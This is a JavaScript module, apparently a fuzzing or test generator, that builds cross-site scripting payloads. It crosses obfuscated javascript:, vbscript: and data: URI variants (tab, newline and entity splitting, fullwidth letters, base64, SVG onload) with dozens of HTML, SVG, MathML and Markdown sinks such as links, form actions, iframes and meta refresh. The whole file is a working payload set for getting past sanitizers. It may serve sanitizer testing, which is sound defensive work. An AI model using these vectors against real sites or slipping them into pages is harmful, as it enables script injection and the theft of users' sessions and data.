// Addresses that are scripts, in every place that takes an address.
import { decimal, hexadecimal, mixedCase, padded, percent } from './make.mjs';

const SCHEMES = [
  (run) => `javascript:${run}`, (run) => mixedCase(`javascript:${run}`).replace(/HiT|hIt/i, 'hit'), (run) => ` javascript:${run}`, (run) => `\u0001\u0002javascript:${run}`, (run) => `java\tscript:${run}`, (run) => `java\nscript:${run}`, (run) => `java\r\nscript\t:${run}`, (run) => `javascript&colon;${run}`, (run) => `java&Tab;script:${run}`, (run) => `java&NewLine;script:${run}`,
  (run) => decimal(`javascript:${run}`), (run) => hexadecimal(`javascript:${run}`), (run) => padded(`javascript:${run}`), (run) => `javascript:${percent(run)}`, (run) => `javascript://x%0a${run}`, (run) => `javascript:/*--></title></style>*/${run}`, (run) => `vbscript:${run}`, (run) => `livescript:${run}`, (run) => `feed:javascript:${run}`, (run) => `view-source:javascript:${run}`, (run) => `jar:javascript:${run}`,
  (run) => `data:text/html,<script>opener?.${run}||parent.${run}</script>`, (run) => `data:text/html;base64,${btoa(`<script>parent.${run}</script>`)}`, (run) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.${run}'/>`, (run) => `data:text/xml,<x:script xmlns:x='http://www.w3.org/1999/xhtml'>parent.${run}</x:script>`, (run) => `&#0;javascript:${run}`, (run) => `ｊavascript:${run}`,
];

const SINKS = [
  '<a href="WHAT">x</a>', "<a href='WHAT' target=_self>x</a>", '<a xlink:href="WHAT">x</a>', '<area href="WHAT" shape=default>', '<map name=m><area href="WHAT" coords=0,0,9,9></map><img usemap=#m>', '<form action="WHAT"><button>x</button></form>', '<form><button formaction="WHAT">x</button></form>', '<form><input type=submit formaction="WHAT"></form>', '<iframe src="WHAT"></iframe>', '<object data="WHAT"></object>', '<embed src="WHAT">', '<img src="WHAT">', '<base href="WHAT//"><a href=x>x</a>', '<meta http-equiv=refresh content="0;url=WHAT">', '<link rel=stylesheet href="WHAT">', '<svg><a href="WHAT"><text y=9>x</text></a></svg>', '<svg><a xlink:href="WHAT"><rect width=9 height=9 /></a></svg>', '<svg><a><animate attributeName=href values="WHAT" /><text y=9>x</text></a></svg>', '<svg><a><set attributeName=xlink:href to="WHAT" /><text y=9>x</text></a></svg>', '<svg><use href="WHAT#x"/></svg>', '<math href="WHAT">x</math>', '<math><maction actiontype=statusline xlink:href="WHAT">x</maction></math>',
  '[x](WHAT)', '[x](<WHAT>)', '![x](WHAT)', '<WHAT>', '[x]: WHAT\n\n[x]', '[x](WHAT "x")', '![x](<WHAT> "x")', '[![x](WHAT)](WHAT)',
];

export function addressVectors() {
  return SINKS.flatMap((sink) => SCHEMES.map((scheme) => (run) => sink.replaceAll('WHAT', () => scheme(run))));
}
